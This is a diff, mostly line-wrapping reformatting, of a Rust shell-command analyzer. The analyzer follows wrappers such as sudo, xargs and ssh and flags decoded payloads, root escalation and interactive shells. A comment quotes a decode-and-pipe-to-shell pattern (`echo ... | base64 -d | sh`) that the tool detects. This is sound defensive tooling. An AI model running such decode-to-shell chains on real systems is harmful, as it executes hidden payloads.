@@ -24,7 +24,13 @@ pub struct Limits {
 
 impl Default for Limits {
     fn default() -> Self {
-        Limits { max_depth: 8, max_commands: 4096, max_parse_bytes: 64 * 1024, max_nesting: 12, plain_fast_path: true }
+        Limits {
+            max_depth: 8,
+            max_commands: 4096,
+            max_parse_bytes: 64 * 1024,
+            max_nesting: 12,
+            plain_fast_path: true,
+        }
     }
 }
 
@@ -135,7 +141,9 @@ pub struct Analysis {
 
 impl Analysis {
     pub fn parse_failed(&self) -> bool {
-        self.signals.iter().any(|s| s.kind == SignalKind::ParseFailed)
+        self.signals
+            .iter()
+            .any(|s| s.kind == SignalKind::ParseFailed)
     }
 }
 
@@ -146,7 +154,11 @@ pub fn analyze(input: &str, limits: &Limits) -> Analysis {
 
 /// Analyse a command knowing files that earlier calls of the episode wrote
 /// (path → content): running one of them analyses its content.
-pub fn analyze_with_files(input: &str, limits: &Limits, files: HashMap<String, String>) -> Analysis {
+pub fn analyze_with_files(
+    input: &str,
+    limits: &Limits,
+    files: HashMap<String, String>,
+) -> Analysis {
     let mut w = Walker {
         limits: *limits,
         out: Analysis::default(),
@@ -157,7 +169,14 @@ pub fn analyze_with_files(input: &str, limits: &Limits, files: HashMap<String, S
         heredocs: Vec::new(),
         shifts: None,
     };
-    let frame = Frame { depth: 0, via: Vec::new(), privileged: false, span: None, pipe_in: None, base: 0 };
+    let frame = Frame {
+        depth: 0,
+        via: Vec::new(),
+        privileged: false,
+        span: None,
+        pipe_in: None,
+        base: 0,
+    };
     w.parse(input, &frame);
     // Every span must locate real text of the input. Offsets are computed
     // through heredoc cuts and line fallbacks; on malformed input (fuzzing
@@ -173,7 +192,10 @@ pub fn analyze_with_files(input: &str, limits: &Limits, files: HashMap<String, S
     w.out
 }
 
-const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "fish", "tcsh", "csh", "rbash", "elvish", "sash", "nu"];
+const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "fish", "tcsh", "csh",
+    "rbash", "elvish", "sash", "nu",
+];
 
 pub(crate) fn is_shell(name: &str) -> bool {
     SHELLS.contains(&name)
@@ -210,7 +232,10 @@ fn byte_offset(text: &str, char_index: usize) -> usize {
     if text.is_ascii() {
         return char_index.min(text.len());
     }
-    text.char_indices().nth(char_index).map(|(b, _)| b).unwrap_or(text.len())
+    text.char_indices()
+        .nth(char_index)
+        .map(|(b, _)| b)
+        .unwrap_or(text.len())
 }
 
 struct WordEnv<'a> {
@@ -231,12 +256,22 @@ impl word::Env for WordEnv<'_> {
         }
         let first = self.walker.out.commands.len();
         self.walker.parse(body, &f);
-        let last = self.walker.out.commands.len().checked_sub(1).filter(|l| *l >= first)?;
+        let last = self
+            .walker
+            .out
+            .commands
+            .len()
+            .checked_sub(1)
+            .filter(|l| *l >= first)?;
         let cmd = &self.walker.out.commands[last];
         let out = cmd.output.clone()?;
         if let Some(enc) = cmd.decoder {
             let span = cmd.span;
-            self.walker.out.signals.push(Signal { kind: SignalKind::DecodedPayload(enc), span, detail: out.trim().to_string() });
+            self.walker.out.signals.push(Signal {
+                kind: SignalKind::DecodedPayload(enc),
+                span,
+                detail: out.trim().to_string(),
+            });
         }
         Some(out.trim_end_matches('\n').to_string())
     }
@@ -250,7 +285,11 @@ impl Walker {
     fn parse(&mut self, text: &str, frame: &Frame) {
         if frame.depth > self.limits.max_depth {
             let span = frame.span.unwrap_or((frame.base, frame.base + text.len()));
-            self.out.signals.push(Signal { kind: SignalKind::TooDeep, span, detail: format!("nesting deeper than {}", self.limits.max_depth) });
+            self.out.signals.push(Signal {
+                kind: SignalKind::TooDeep,
+                span,
+                detail: format!("nesting deeper than {}", self.limits.max_depth),
+            });
             return;
         }
         if self.full() {
@@ -260,7 +299,12 @@ impl Walker {
             self.fallback(text, frame, false);
             return;
         }
-        if let Some(list) = self.limits.plain_fast_path.then(|| lex::plain_list(text)).flatten() {
+        if let Some(list) = self
+            .limits
+            .plain_fast_path
+            .then(|| lex::plain_list(text))
+            .flatten()
+        {
             self.plain(list, frame);
             return;
         }
@@ -272,7 +316,11 @@ impl Walker {
                 let n = split.bodies.len();
                 let stripped = split.text.clone();
                 self.heredocs.push((split.bodies.clone(), vec![false; n]));
-                let outer = if frame.span.is_none() { self.shifts.replace(split) } else { None };
+                let outer = if frame.span.is_none() {
+                    self.shifts.replace(split)
+                } else {
+                    None
+                };
                 for list in &program.complete_commands {
                     self.compound_list(list, &stripped, frame);
                 }
@@ -312,7 +360,9 @@ impl Walker {
             let mut prev = frame.pipe_in;
             for pc in pipeline {
                 let first = self.out.commands.len();
-                let span = frame.span.unwrap_or((frame.base + pc.span.0, frame.base + pc.span.1));
+                let span = frame
+                    .span
+                    .unwrap_or((frame.base + pc.span.0, frame.base + pc.span.1));
                 let mut f = frame.clone();
                 f.span = Some(span);
                 f.pipe_in = prev;
@@ -333,7 +383,11 @@ impl Walker {
                 }
                 self.dispatch(pc.words, cmd, &f);
                 let now = self.out.commands.len();
-                prev = if now > first { self.main_command(first, now) } else { None };
+                prev = if now > first {
+                    self.main_command(first, now)
+                } else {
+                    None
+                };
             }
         }
     }
@@ -379,12 +433,22 @@ impl Walker {
                 let span = frame.span.unwrap_or((f.base + s, f.base + e));
                 let mut g = f.clone();
                 g.span = Some(span);
-                let words: Vec<String> = words.iter().flat_map(|w| self.eval_word(w, &g).fields).collect();
+                let words: Vec<String> = words
+                    .iter()
+                    .flat_map(|w| self.eval_word(w, &g).fields)
+                    .collect();
                 let template = self.template(&g, Stdin::None);
                 self.dispatch(words, template, &g);
             }
             if trimmed.len() > cut {
-                self.out.signals.push(Signal { kind: SignalKind::Truncated, span: whole, detail: format!("line of {} bytes analysed on its first {cut}", trimmed.len()) });
+                self.out.signals.push(Signal {
+                    kind: SignalKind::Truncated,
+                    span: whole,
+                    detail: format!(
+                        "line of {} bytes analysed on its first {cut}",
+                        trimmed.len()
+                    ),
+                });
             }
         }
         if rejected || failed_lines > 0 {
@@ -396,12 +460,20 @@ impl Walker {
         }
     }
 
-    fn span_of(&self, loc: Option<brush_parser::SourceSpan>, text: &str, frame: &Frame) -> (usize, usize) {
+    fn span_of(
+        &self,
+        loc: Option<brush_parser::SourceSpan>,
+        text: &str,
+        frame: &Frame,
+    ) -> (usize, usize) {
         if let Some(s) = frame.span {
             return s;
         }
         let (s, e) = match loc {
-            Some(l) => (byte_offset(text, l.start.index), byte_offset(text, l.end.index)),
+            Some(l) => (
+                byte_offset(text, l.start.index),
+                byte_offset(text, l.end.index),
+            ),
             None => (0, text.len()),
         };
         match &self.shifts {
@@ -434,7 +506,11 @@ impl Walker {
             f.pipe_in = prev;
             self.command(cmd, text, &f);
             let now = self.out.commands.len();
-            prev = if now > first { self.main_command(first, now) } else { None };
+            prev = if now > first {
+                self.main_command(first, now)
+            } else {
+                None
+            };
         }
     }
 
@@ -442,7 +518,12 @@ impl Walker {
     /// the element's own depth (wrappers record the inner command last).
     fn main_command(&self, first: usize, end: usize) -> Option<usize> {
         let base_depth = self.out.commands[first].depth;
-        (first..end).rev().find(|&i| self.out.commands[i].depth == base_depth || !self.out.commands[i].via.is_empty()).or(Some(end - 1))
+        (first..end)
+            .rev()
+            .find(|&i| {
+                self.out.commands[i].depth == base_depth || !self.out.commands[i].via.is_empty()
+            })
+            .or(Some(end - 1))
     }
 
     fn command(&mut self, cmd: &ast::Command, text: &str, frame: &Frame) {
@@ -489,7 +570,9 @@ impl Walker {
                 }
                 self.compound_list(&f.body.list, text, frame);
             }
-            ast::CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list, text, frame),
+            ast::CompoundCommand::ArithmeticForClause(f) => {
+                self.compound_list(&f.body.list, text, frame)
+            }
             ast::CompoundCommand::CaseClause(c) => {
                 self.eval_word(&c.value.value, frame);
                 for item in &c.cases {
@@ -518,7 +601,10 @@ impl Walker {
     }
 
     fn eval_word(&mut self, raw: &str, frame: &Frame) -> word::Evaluated {
-        let mut env = WordEnv { walker: self, frame };
+        let mut env = WordEnv {
+            walker: self,
+            frame,
+        };
         word::eval(raw, &mut env)
     }
 
@@ -558,7 +644,12 @@ impl Walker {
         let items = sc.prefix.iter().flat_map(|p| p.0.iter()).map(|i| (true, i));
         let name = sc.word_or_name.iter().map(|w| (false, w));
         let suffix = sc.suffix.iter().flat_map(|s| s.0.iter());
-        let handle = |w: &mut Walker, item: &Item, argv: &mut Vec<String>, cmd: &mut Command, stdin: &mut Option<Stdin>, first_word: &mut bool| match item {
+        let handle = |w: &mut Walker,
+                      item: &Item,
+                      argv: &mut Vec<String>,
+                      cmd: &mut Command,
+                      stdin: &mut Option<Stdin>,
+                      first_word: &mut bool| match item {
             Item::IoRedirect(r) => w.redirect(r, &f, &mut cmd.redirects, stdin),
             Item::Word(word) => w.push_word(&word.value, &f, argv, cmd, first_word),
             Item::AssignmentWord(a, _) => {
@@ -571,7 +662,14 @@ impl Walker {
                         let ev = w.eval_word(&v.value, &f);
                         (ev.fields.join(" "), ev.dynamic)
                     }
-                    ast::AssignmentValue::Array(items) => (items.iter().map(|(_, v)| w.eval_word(&v.value, &f).fields.join(" ")).collect::<Vec<_>>().join(" "), true),
+                    ast::AssignmentValue::Array(items) => (
+                        items
+                            .iter()
+                            .map(|(_, v)| w.eval_word(&v.value, &f).fields.join(" "))
+                            .collect::<Vec<_>>()
+                            .join(" "),
+                        true,
+                    ),
                 };
                 // A value that is not known statically (`x=$(ps ...)`) leaves `$x` unexpanded
                 // rather than standing in for it with the text of the substitution.
@@ -624,10 +722,18 @@ impl Walker {
         self.dispatch(argv, cmd, &f);
     }
 
-    fn push_word(&mut self, raw: &str, frame: &Frame, argv: &mut Vec<String>, cmd: &mut Command, first_word: &mut bool) {
+    fn push_word(
+        &mut self,
+        raw: &str,
+        frame: &Frame,
+        argv: &mut Vec<String>,
+        cmd: &mut Command,
+        first_word: &mut bool,
+    ) {
         let ev = self.eval_word(raw, frame);
         if *first_word {
-            cmd.name_built = ev.non_literal && !(raw.starts_with('"') && raw.ends_with('"') && !raw.contains('$'));
+            cmd.name_built = ev.non_literal
+                && !(raw.starts_with('"') && raw.ends_with('"') && !raw.contains('$'));
             *first_word = false;
         }
         cmd.tricks.extend(ev.tricks);
@@ -635,11 +741,20 @@ impl Walker {
         argv.extend(ev.fields);
     }
 
-    fn redirect(&mut self, r: &ast::IoRedirect, frame: &Frame, reds: &mut Vec<Redirect>, stdin: &mut Option<Stdin>) {
+    fn redirect(
+        &mut self,
+        r: &ast::IoRedirect,
+        frame: &Frame,
+        reds: &mut Vec<Redirect>,
+        stdin: &mut Option<Stdin>,
+    ) {
         match r {
             ast::IoRedirect::File(fd, kind, target) => {
                 let target_text = match target {
-                    ast::IoFileRedirectTarget::Filename(w) | ast::IoFileRedirectTarget::Duplicate(w) => self.eval_word(&w.value, frame).fields.join(" "),
+                    ast::IoFileRedirectTarget::Filename(w)
+                    | ast::IoFileRedirectTarget::Duplicate(w) => {
+                        self.eval_word(&w.value, frame).fields.join(" ")
+                    }
                     ast::IoFileRedirectTarget::Fd(n) => n.to_string(),
                     ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                         let mut g = frame.clone();
@@ -652,15 +767,22 @@ impl Walker {
                 };
                 let op = match kind {
                     ast::IoFileRedirectKind::Read => RedirectOp::Read,
-                    ast::IoFileRedirectKind::Write | ast::IoFileRedirectKind::Clobber => RedirectOp::Write,
+                    ast::IoFileRedirectKind::Write | ast::IoFileRedirectKind::Clobber => {
+                        RedirectOp::Write
+                    }
                     ast::IoFileRedirectKind::Append => RedirectOp::Append,
                     ast::IoFileRedirectKind::ReadAndWrite => RedirectOp::ReadWrite,
-                    ast::IoFileRedirectKind::DuplicateInput | ast::IoFileRedirectKind::DuplicateOutput => RedirectOp::Dup,
+                    ast::IoFileRedirectKind::DuplicateInput
+                    | ast::IoFileRedirectKind::DuplicateOutput => RedirectOp::Dup,
                 };
                 if op == RedirectOp::Read && fd.unwrap_or(0) == 0 {
                     *stdin = Some(Stdin::File(target_text.clone()));
                 }
-                reds.push(Redirect { fd: *fd, op, target: target_text });
+                reds.push(Redirect {
+                    fd: *fd,
+                    op,
+                    target: target_text,
+                });
             }
             ast::IoRedirect::HereDocument(_, doc) => {
                 let mut raw = doc.doc.value.clone();
@@ -668,11 +790,21 @@ impl Walker {
                     if let Some((bodies, used)) = self.heredocs.last_mut() {
                         if let Some(b) = bodies.get(i) {
                             used[i] = true;
-                            raw = if doc.remove_tabs { b.lines().map(|l| format!("{}\n", l.trim_start_matches('\t'))).collect() } else { b.clone() };
+                            raw = if doc.remove_tabs {
+                                b.lines()
+                                    .map(|l| format!("{}\n", l.trim_start_matches('\t')))
+                                    .collect()
+                            } else {
+                                b.clone()
+                            };
                         }
                     }
                 }
-                let body = if doc.requires_expansion { self.eval_heredoc(&raw, frame) } else { raw };
+                let body = if doc.requires_expansion {
+                    self.eval_heredoc(&raw, frame)
+                } else {
+                    raw
+                };
                 *stdin = Some(Stdin::Text(body));
             }
             ast::IoRedirect::HereString(_, w) => {
@@ -682,7 +814,15 @@ impl Walker {
             }
             ast::IoRedirect::OutputAndError(w, append) => {
                 let target = self.eval_word(&w.value, frame).fields.join(" ");
-                reds.push(Redirect { fd: None, op: if *append { RedirectOp::Append } else { RedirectOp::Dup }, target });
+                reds.push(Redirect {
+                    fd: None,
+                    op: if *append {
+                        RedirectOp::Append
+                    } else {
+                        RedirectOp::Dup
+                    },
+                    target,
+                });
             }
         }
     }
@@ -724,7 +864,10 @@ impl Walker {
             }
         }
         // `export X=1`, `declare X=1`, `local X=1`, `readonly X=1` assign too.
-        if matches!(argv[0].as_str(), "export" | "declare" | "local" | "readonly" | "typeset") {
+        if matches!(
+            argv[0].as_str(),
+            "export" | "declare" | "local" | "readonly" | "typeset"
+        ) {
             for a in &argv[1..] {
                 if let Some((k, v)) = a.split_once('=').filter(|(k, _)| is_name(k)) {
                     self.vars.insert(k.to_string(), v.to_string());
@@ -737,7 +880,10 @@ impl Walker {
         cmd.argv = argv;
         self.derive(&mut cmd);
         self.record_written_file(&cmd);
-        if cmd.code.is_none() && !matches!(cmd.stdin, Stdin::None | Stdin::File(_)) && interpreter_reads_stdin(&cmd.name, cmd.args()) {
+        if cmd.code.is_none()
+            && !matches!(cmd.stdin, Stdin::None | Stdin::File(_))
+            && interpreter_reads_stdin(&cmd.name, cmd.args())
+        {
             cmd.runs_stdin = true;
         }
         let idx = self.out.commands.len();
@@ -752,20 +898,37 @@ impl Walker {
         match name.as_str() {
             "sudo" | "doas" | "pkexec" | "run0" | "runuser" => {
                 // `sudo -u postgres psql` switches to another unprivileged user, not to root.
-                let target = option_value(args, &["-u", "--user"]).or_else(|| args.iter().find_map(|a| a.strip_prefix("-u").filter(|u| !u.is_empty()).map(str::to_string)));
+                let target = option_value(args, &["-u", "--user"]).or_else(|| {
+                    args.iter().find_map(|a| {
+                        a.strip_prefix("-u")
+                            .filter(|u| !u.is_empty())
+                            .map(str::to_string)
+                    })
+                });
                 inner.privileged = match target.as_deref() {
                     None => name != "runuser",
                     Some(u) => u == "root" || u == "#0" || u == "0",
                 };
-                let rest = skip_options(args, &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R", "--user", "--group", "--chdir", "--prompt", "--role", "--type", "-l", "--login"]);
+                let rest = skip_options(
+                    args,
+                    &[
+                        "-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R", "--user",
+                        "--group", "--chdir", "--prompt", "--role", "--type", "-l", "--login",
+                    ],
+                );
                 if rest.is_empty() {
-                    if args.iter().any(|a| a == "-s" || a == "-i" || a == "--shell" || a == "--login") {
+                    if args
+                        .iter()
+                        .any(|a| a == "-s" || a == "-i" || a == "--shell" || a == "--login")
+                    {
                         self.out.commands[idx].interactive_shell = true;
                         self.out.commands[idx].privileged = true;
                     }
                     return;
                 }
-                if let Some(script) = option_value(args, &["-c", "--command"]).filter(|_| name == "runuser") {
+                if let Some(script) =
+                    option_value(args, &["-c", "--command"]).filter(|_| name == "runuser")
+                {
                     inner.depth += 1;
                     self.parse(&script, &inner);
                     return;
@@ -791,14 +954,18 @@ impl Walker {
                         i += 2;
                     } else if a == "-S" || a == "--split-string" {
                         if let Some(s) = args.get(i + 1) {
-                            let mut parts: Vec<String> = s.split_whitespace().map(str::to_string).collect();
+                            let mut parts: Vec<String> =
+                                s.split_whitespace().map(str::to_string).collect();
                             parts.extend(args[i + 2..].iter().cloned());
                             self.run_inner(&parts, stdin, &inner);
                         }
                         return;
                     } else if a.starts_with('-') {
                         i += 1;
-                    } else if let Some((k, v)) = a.split_once('=').filter(|(k, _)| !k.is_empty() && !k.contains('/')) {
+                    } else if let Some((k, v)) = a
+                        .split_once('=')
+                        .filter(|(k, _)| !k.is_empty() && !k.contains('/'))
+                    {
                         assigns.push((k.to_string(), v.to_string()));
                         i += 1;
                     } else {
@@ -818,14 +985,28 @@ impl Walker {
             _ if argv[0].contains('/') && self.files.contains_key(&file_key(&argv[0])) => {
                 // `./run.sh` after writing run.sh: run its content (as shell unless it says otherwise).
                 let content = self.written(&argv[0]).unwrap_or_default();
-                if !content.starts_with("#!") || content.lines().next().map(|l| l.ends_with("sh")).unwrap_or(false) {
+                if !content.starts_with("#!")
+                    || content
+                        .lines()
+                        .next()
+                        .map(|l| l.ends_with("sh"))
+                        .unwrap_or(false)
+                {
                     inner.depth += 1;
                     self.parse(&content, &inner);
                 }
             }
-            _ if self.out.commands[idx].code.as_ref().is_some_and(|c| c.lang != "awk" || c.text.contains("system")) => {
+            _ if self.out.commands[idx]
+                .code
+                .as_ref()
+                .is_some_and(|c| c.lang != "awk" || c.text.contains("system")) =>
+            {
                 // Shell commands handed to system()/exec()/popen()/subprocess in inline code.
-                let code = self.out.commands[idx].code.clone().map(|c| c.text).unwrap_or_default();
+                let code = self.out.commands[idx]
+                    .code
+                    .clone()
+                    .map(|c| c.text)
+                    .unwrap_or_default();
                 let mut f = inner.clone();
                 f.depth += 1;
                 for cmd in crate::code::shell_strings(&code) {
@@ -838,7 +1019,11 @@ impl Walker {
                 }
             }
             "osascript" => {
-                let bodies = self.out.commands[idx].code.as_ref().map(|c| applescript_shell_commands(&c.text)).unwrap_or_default();
+                let bodies = self.out.commands[idx]
+                    .code
+                    .as_ref()
+                    .map(|c| applescript_shell_commands(&c.text))
+                    .unwrap_or_default();
                 inner.depth += 1;
                 for b in bodies {
                     self.parse(&b, &inner);
@@ -867,12 +1052,19 @@ impl Walker {
         let mut targets: Vec<(String, bool)> = cmd
             .redirects
             .iter()
-            .filter(|r| matches!(r.op, RedirectOp::Write | RedirectOp::Append) && r.fd.unwrap_or(1) == 1)
+            .filter(|r| {
+                matches!(r.op, RedirectOp::Write | RedirectOp::Append) && r.fd.unwrap_or(1) == 1
+            })
             .map(|r| (r.target.clone(), r.op == RedirectOp::Append))
             .collect();
         if cmd.name == "tee" {
             let append = cmd.args().iter().any(|a| a == "-a" || a == "--append");
-            targets.extend(cmd.args().iter().filter(|a| !a.starts_with('-')).map(|a| (a.clone(), append)));
+            targets.extend(
+                cmd.args()
+                    .iter()
+                    .filter(|a| !a.starts_with('-'))
+                    .map(|a| (a.clone(), append)),
+            );
         }
         for (path, append) in targets {
             let key = file_key(&path);
@@ -901,7 +1093,11 @@ impl Walker {
         let mut cmd = self.template(&f, stdin);
         // `sudo VAR=value prog`: leading assignments set the inner program's environment.
         let mut argv = argv;
-        while let Some((k, v)) = argv.first().and_then(|a| a.split_once('=')).filter(|(k, _)| is_name(k)) {
+        while let Some((k, v)) = argv
+            .first()
+            .and_then(|a| a.split_once('='))
+            .filter(|(k, _)| is_name(k))
+        {
             cmd.assignments.push((k.to_string(), v.to_string()));
             argv = &argv[1..];
         }
@@ -909,7 +1105,14 @@ impl Walker {
     }
 
     /// Programs that run another program given on their command line; others are left alone.
-    fn wrapper(&mut self, name: &str, args: &[String], stdin: Stdin, inner: &mut Frame, idx: usize) {
+    fn wrapper(
+        &mut self,
+        name: &str,
+        args: &[String],
+        stdin: Stdin,
+        inner: &mut Frame,
+        idx: usize,
+    ) {
         let parse_joined = |w: &mut Walker, parts: &[String], f: &mut Frame| {
             if !parts.is_empty() {
                 f.depth += 1;
@@ -917,7 +1120,9 @@ impl Walker {
             }
         };
         match name {
-            "exec" | "nohup" | "setsid" | "time" | "unbuffer" | "torsocks" | "proxychains" | "proxychains4" | "fakeroot" | "catchsegv" | "rlwrap" | "multitime" | "pexec" | "grc" | "busybox" => {
+            "exec" | "nohup" | "setsid" | "time" | "unbuffer" | "torsocks" | "proxychains"
+            | "proxychains4" | "fakeroot" | "catchsegv" | "rlwrap" | "multitime" | "pexec"
+            | "grc" | "busybox" => {
                 let rest = skip_options(args, &["-a", "-f"]);
                 self.run_inner(rest, stdin, inner);
             }
@@ -926,24 +1131,68 @@ impl Walker {
                     self.run_inner(skip_options(args, &[]), stdin, inner);
                 }
             }
-            "nice" | "ionice" | "choom" | "stdbuf" | "aa-exec" | "sg" | "unshare" | "firejail" | "systemd-run" | "valgrind" => {
-                let with_value = ["-n", "-c", "-p", "-t", "-i", "-o", "-e", "--adjustment", "--class", "--classdata", "-u", "--unit", "--uid", "--gid", "-g", "-E", "--setenv", "-d", "--profile", "-r"];
+            "nice" | "ionice" | "choom" | "stdbuf" | "aa-exec" | "sg" | "unshare" | "firejail"
+            | "systemd-run" | "valgrind" => {
+                let with_value = [
+                    "-n",
+                    "-c",
+                    "-p",
+                    "-t",
+                    "-i",
+                    "-o",
+                    "-e",
+                    "--adjustment",
+                    "--class",
+                    "--classdata",
+                    "-u",
+                    "--unit",
+                    "--uid",
+                    "--gid",
+                    "-g",
+                    "-E",
+                    "--setenv",
+                    "-d",
+                    "--profile",
+                    "-r",
+                ];
                 if name == "systemd-run" && args.iter().any(|a| a == "-S" || a == "--shell") {
                     self.out.commands[idx].interactive_shell = true;
                 }
                 self.run_inner(skip_options(args, &with_value), stdin, inner);
             }
             "strace" | "ltrace" => {
-                self.run_inner(skip_options(args, &["-o", "-e", "-p", "-s", "-u", "-E", "-P", "-a", "-b", "-I", "-X", "-L", "-n"]), stdin, inner);
+                self.run_inner(
+                    skip_options(
+                        args,
+                        &[
+                            "-o", "-e", "-p", "-s", "-u", "-E", "-P", "-a", "-b", "-I", "-X", "-L",
+                            "-n",
+                        ],
+                    ),
+                    stdin,
+                    inner,
+                );
             }
             "perf" => {
-                if args.first().map(|a| a == "stat" || a == "record" || a == "trace").unwrap_or(false) {
-                    self.run_inner(skip_options(&args[1..], &["-e", "-o", "-p", "-r", "-C", "-G", "-x"]), stdin, inner);
+                if args
+                    .first()
+                    .map(|a| a == "stat" || a == "record" || a == "trace")
+                    .unwrap_or(false)
+                {
+                    self.run_inner(
+                        skip_options(&args[1..], &["-e", "-o", "-p", "-r", "-C", "-G", "-x"]),
+                        stdin,
+                        inner,
+                    );
                 }
             }
             "xdotool" => {
                 if let Some(p) = args.iter().position(|a| a == "exec") {
-                    self.run_inner(skip_options(&args[p + 1..], &["--terminator"]), stdin, inner);
+                    self.run_inner(
+                        skip_options(&args[p + 1..], &["--terminator"]),
+                        stdin,
+                        inner,
+                    );
                 }
             }
             "ip" => {
@@ -951,10 +1200,31 @@ impl Walker {
                     self.run_inner(&args[3..], stdin, inner);
                 }
             }
-            "nsenter" => self.run_inner(skip_options(args, &["-t", "--target", "-S", "-G"]), stdin, inner),
+            "nsenter" => self.run_inner(
+                skip_options(args, &["-t", "--target", "-S", "-G"]),
+                stdin,
+                inner,
+            ),
             "timeout" | "chroot" | "flock" | "taskset" | "chrt" | "setarch" => {
-                let rest = skip_options(args, &["-s", "--signal", "-k", "--kill-after", "-w", "--userspec", "--groups", "-E", "--conflict-exit-code"]);
-                let skip = if name == "taskset" && args.iter().any(|a| a == "-p") { rest.len() } else { 1 };
+                let rest = skip_options(
+                    args,
+                    &[
+                        "-s",
+                        "--signal",
+                        "-k",
+                        "--kill-after",
+                        "-w",
+                        "--userspec",
+                        "--groups",
+                        "-E",
+                        "--conflict-exit-code",
+                    ],
+                );
+                let skip = if name == "taskset" && args.iter().any(|a| a == "-p") {
+                    rest.len()
+                } else {
+                    1
+                };
                 if rest.len() > skip {
                     self.run_inner(&rest[skip..], stdin, inner);
                 }
@@ -970,7 +1240,10 @@ impl Walker {
             }
             "cabal" | "npm" | "yarn" | "npx" | "bundle" | "task" | "tmate" => {
                 // `npm exec CMD`, `yarn exec CMD`, `bundle exec CMD`, `cabal exec -- CMD`, `tmate -c CMD`.
-                if let Some(p) = args.iter().position(|a| a == "exec" || a == "execute" || a == "-c") {
+                if let Some(p) = args
+                    .iter()
+                    .position(|a| a == "exec" || a == "execute" || a == "-c")
+                {
                     let rest = &args[p + 1..];
                     let rest = match rest.iter().position(|a| a == "--") {
                         Some(d) => &rest[d + 1..],
@@ -983,7 +1256,11 @@ impl Walker {
                     }
                 }
             }
-            "watch" => parse_joined(self, skip_options(args, &["-n", "--interval", "-d", "-q"]), inner),
+            "watch" => parse_joined(
+                self,
+                skip_options(args, &["-n", "--interval", "-d", "-q"]),
+                inner,
+            ),
             "script" => {
                 if let Some(c) = option_value(args, &["-c", "--command"]) {
                     inner.depth += 1;
@@ -993,7 +1270,10 @@ impl Walker {
                 }
             }
             "trap" => {
-                if let Some(code) = args.first().filter(|a| *a != "-" && *a != "-p" && *a != "-l") {
+                if let Some(code) = args
+                    .first()
+                    .filter(|a| *a != "-" && *a != "-p" && *a != "-l")
+                {
                     inner.depth += 1;
                     self.parse(code, inner);
                 }
@@ -1009,7 +1289,27 @@ impl Walker {
                 }
             }
             "xargs" => {
-                let rest = skip_options(args, &["-I", "-i", "-n", "-P", "-d", "-L", "-l", "-s", "-E", "-e", "-a", "--max-args", "--max-procs", "--delimiter", "--arg-file", "--replace"]);
+                let rest = skip_options(
+                    args,
+                    &[
+                        "-I",
+                        "-i",
+                        "-n",
+                        "-P",
+                        "-d",
+                        "-L",
+                        "-l",
+                        "-s",
+                        "-E",
+                        "-e",
+                        "-a",
+                        "--max-args",
+                        "--max-procs",
+                        "--delimiter",
+                        "--arg-file",
+                        "--replace",
+                    ],
+                );
                 // xargs feeds its stdin as arguments; the inner program's stdin is not that pipe.
                 self.run_inner(rest, Stdin::None, inner);
             }
@@ -1017,7 +1317,11 @@ impl Walker {
                 let mut i = 0;
                 while i < args.len() {
                     if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
-                        let end = args[i + 1..].iter().position(|a| a == ";" || a == "+" || a == "\\;").map(|p| i + 1 + p).unwrap_or(args.len());
+                        let end = args[i + 1..]
+                            .iter()
+                            .position(|a| a == ";" || a == "+" || a == "\\;")
+                            .map(|p| i + 1 + p)
+                            .unwrap_or(args.len());
                         self.run_inner(&args[i + 1..end], Stdin::None, inner);
                         i = end;
                     }
@@ -1026,7 +1330,13 @@ impl Walker {
             }
             "ssh" => {
                 // The remote command, if any, follows the destination.
-                let rest = skip_options(args, &["-p", "-i", "-l", "-o", "-L", "-R", "-D", "-W", "-w", "-b", "-c", "-E", "-F", "-I", "-J", "-m", "-O", "-Q", "-S", "-e", "-B"]);
+                let rest = skip_options(
+                    args,
+                    &[
+                        "-p", "-i", "-l", "-o", "-L", "-R", "-D", "-W", "-w", "-b", "-c", "-E",
+                        "-F", "-I", "-J", "-m", "-O", "-Q", "-S", "-e", "-B",
+                    ],
+                );
                 if rest.len() > 1 {
                     parse_joined(self, &rest[1..], inner);
                 }
@@ -1098,10 +1408,21 @@ impl Walker {
             // What runs came from the whole pipeline (`echo ... | base64 -d | sh`):
             // report it there, so the evidence shows the encoded payload too.
             let me = &self.out.commands[idx];
-            let start = self.out.commands.iter().filter(|c| c.pipeline == me.pipeline && c.depth == me.depth).map(|c| c.span.0).min().unwrap_or(me.span.0);
+            let start = self
+                .out
+                .commands
+                .iter()
+                .filter(|c| c.pipeline == me.pipeline && c.depth == me.depth)
+                .map(|c| c.span.0)
+                .min()
+                .unwrap_or(me.span.0);
             let span = (start.min(me.span.0), me.span.1);
             if let Some(enc) = decoder {
-                self.out.signals.push(Signal { kind: SignalKind::DecodedPayload(enc), span, detail: text.trim().to_string() });
+                self.out.signals.push(Signal {
+                    kind: SignalKind::DecodedPayload(enc),
+                    span,
+                    detail: text.trim().to_string(),
+                });
             }
             inner.depth += 1;
             inner.span = Some(span);
@@ -1122,7 +1443,11 @@ impl Walker {
                 let mut rest: &[String] = &args;
                 let mut escapes = false;
                 let mut newline = true;
-                while let Some(f) = rest.first().filter(|a| a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E'))) {
+                while let Some(f) = rest.first().filter(|a| {
+                    a.len() > 1
+                        && a.starts_with('-')
+                        && a[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E'))
+                }) {
                     escapes |= f.contains('e');
                     newline &= !f.contains('n');
                     rest = &rest[1..];
@@ -1148,8 +1473,19 @@ impl Walker {
                 }
             }
             "cat" if args.is_empty() => cmd.output = piped(self),
-            "base64" | "base32" | "openssl" | "basenc" if args.iter().any(|a| a == "-d" || a == "--decode" || a == "-D" || a == "-base64" || a == "base64" || a == "--base64") => {
-                let decoding = args.iter().any(|a| a == "-d" || a == "--decode" || a == "-D");
+            "base64" | "base32" | "openssl" | "basenc"
+                if args.iter().any(|a| {
+                    a == "-d"
+                        || a == "--decode"
+                        || a == "-D"
+                        || a == "-base64"
+                        || a == "base64"
+                        || a == "--base64"
+                }) =>
+            {
+                let decoding = args
+                    .iter()
+                    .any(|a| a == "-d" || a == "--decode" || a == "-D");
                 if decoding && cmd.name != "base32" {
